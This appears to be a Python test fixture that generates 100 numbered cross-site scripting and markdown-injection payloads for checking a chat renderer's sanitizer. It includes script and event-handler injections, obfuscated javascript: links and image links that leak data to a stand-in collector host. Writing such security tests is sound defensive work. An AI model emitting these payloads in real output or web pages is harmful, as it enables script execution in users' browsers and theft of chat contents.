"""A hundred model answers that try to run a script in the reader's page, or to leak the chat (SECURITY T12).

`RAN` in a payload runs something that the page notices; `BEACON` is a URL of the page's own site, which no policy blocks.
"""

RAN = "parent.ran({n})"
BEACON = "/beacon/{n}"

_ELEMENTS = (
    "<script>RAN</script>",
    "<script src=BEACON></script>",
    "<SCRIPT>RAN</SCRIPT>",
    "<script\n>RAN</script\n>",
    "<scr<script>ipt>RAN</scr</script>ipt>",
    "</script><script>RAN</script>",
    "<script type=module>RAN</script>",
    "<img src=x onerror=RAN>",
    "<img src=BEACON>",
    "<img src='BEACON?secret'>",
    "<img srcset='BEACON 1x'>",
    "<IMG SRC=BEACON ALT=x>",
    '<img """><script>RAN</script>">',
    "<img/src=BEACON/onerror=RAN>",
    "<picture><source srcset=BEACON><img src=BEACON></picture>",
    "<svg onload=RAN>",
    "<svg/onload=RAN>",
    "<svg><script>RAN</script></svg>",
    "<svg><image href=BEACON /></svg>",
    "<svg><use href='BEACON#x'></use></svg>",
    "<svg><animate onbegin=RAN attributeName=x dur=1s></svg>",
    "<svg><set onbegin=RAN attributeName=x></svg>",
    "<svg><style>@import 'BEACON'</style></svg>",
    "<svg><foreignObject><img src=x onerror=RAN></foreignObject></svg>",
    "<math><mtext><img src=BEACON></mtext></math>",
    "<math href='javascript:RAN'>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RAN></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RAN>",
    "<body onload=RAN>",
    "<iframe src='javascript:RAN'></iframe>",
    "<iframe srcdoc='<script>RAN</script>'></iframe>",
    "<iframe src=BEACON></iframe>",
    "<object data=BEACON></object>",
    "<embed src=BEACON>",
    "<link rel=stylesheet href=BEACON>",
    "<link rel=prefetch href=BEACON>",
    "<link rel=preload as=image href=BEACON>",
    "<style>@import url(BEACON)</style>",
    "<style>body{background:url(BEACON)}</style>",
    "<div style='background:url(BEACON)'>x</div>",
    "<table background=BEACON><tr><td>x</td></tr></table>",
    "<video src=BEACON autoplay></video>",
    "<video poster=BEACON></video>",
    "<audio src=BEACON autoplay></audio>",
    "<audio src=x onerror=RAN></audio>",
    "<track src=BEACON>",
    "<input type=image src=BEACON>",
    "<input autofocus onfocus=RAN>",
    "<textarea autofocus onfocus=RAN></textarea>",
    "<details open ontoggle=RAN>x</details>",
    "<marquee onstart=RAN>x</marquee>",
    "<meta http-equiv=refresh content='0;url=BEACON'>",
    "<base href='BEACON/'>",
    "<template><img src=x onerror=RAN></template>",
    "<noscript><p title='</noscript><img src=x onerror=RAN>'>",
    "<textarea></textarea><img src=x onerror=RAN>",
    "<title></title><img src=x onerror=RAN>",
    "<xmp><p title='</xmp><img src=x onerror=RAN>'>",
    "<!--><img src=x onerror=RAN>-->",
    "<!-- --!><img src=x onerror=RAN> -->",
    "<![CDATA[><img src=x onerror=RAN>]]>",
    "<?xml version='1.0'?><img src=x onerror=RAN>",
    "<a href='javascript:RAN' id=go>x</a>",
    "<form action='javascript:RAN'><button>x</button></form>",
    "<button formaction='javascript:RAN'>x</button>",
    "<custom-tag onpointerenter=RAN style='position:fixed;inset:0'>x</custom-tag>",
)
_MARKDOWN = (
    "![x](BEACON)",
    "![x](<BEACON>)",
    "![x](BEACON 'title')",
    "![x][ref]\n\n[ref]: BEACON",
    "![](BEACON?what-you-said)",
    "![x](http://collector.example/BEACON)",
    "![x](https://collector.example/?q=secret)",
    "![x](//collector.example/BEACON)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](BEACON)](BEACON)",
    "[x](javascript:RAN)",
    "[x](JaVaScRiPt:RAN)",
    "[x](<javascript:RAN>)",
    "[x]( javascript:RAN)",
    "[x](java\tscript:RAN)",
    "[x](<java\nscript:RAN>)",
    "[x](\x01javascript:RAN)",
    "[x](javascript&colon;RAN)",
    "[x](&#106;avascript:RAN)",
    "[x](&#x6A;&#x61;vascript:RAN)",
    "[x](java\\script:RAN)",
    "[x](vbscript:RAN)",
    "[x](data:text/html,<script>RAN</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://e.example/" onmouseover="RAN)',
    "[x](https://e.example/'><img src=x onerror=RAN>)",
    '[x](https://e.example/ "title\\" onmouseover=RAN")',
    "[a [b](javascript:RAN) c](javascript:RAN)",
    "<javascript:RAN>",
    "<https://e.example/><img src=x onerror=RAN>",
    "```html\n<script>RAN</script>\n<img src=BEACON>\n```",
    '```"><img src=x onerror=RAN>\nx\n```',
    "`<img src=x onerror=RAN>`",
    "| <img src=BEACON> | <script>RAN</script> |\n|---|---|\n| ![x](BEACON) | [x](javascript:RAN) |",
)
_NESTED = "> - " * 400 + "<img src=BEACON onerror=RAN>"


def payloads() -> list[str]:
    """Return the payloads, each with its own number in the code that it runs or the URL that it requests."""
    texts = (*_ELEMENTS, *_MARKDOWN)
    assert len(texts) == 100
    return [text.replace("RAN", RAN).replace("BEACON", BEACON).replace("{n}", str(number)) for number, text in enumerate(texts)]


def nested() -> str:
    return _NESTED.replace("RAN", RAN).replace("BEACON", BEACON).replace("{n}", "100")
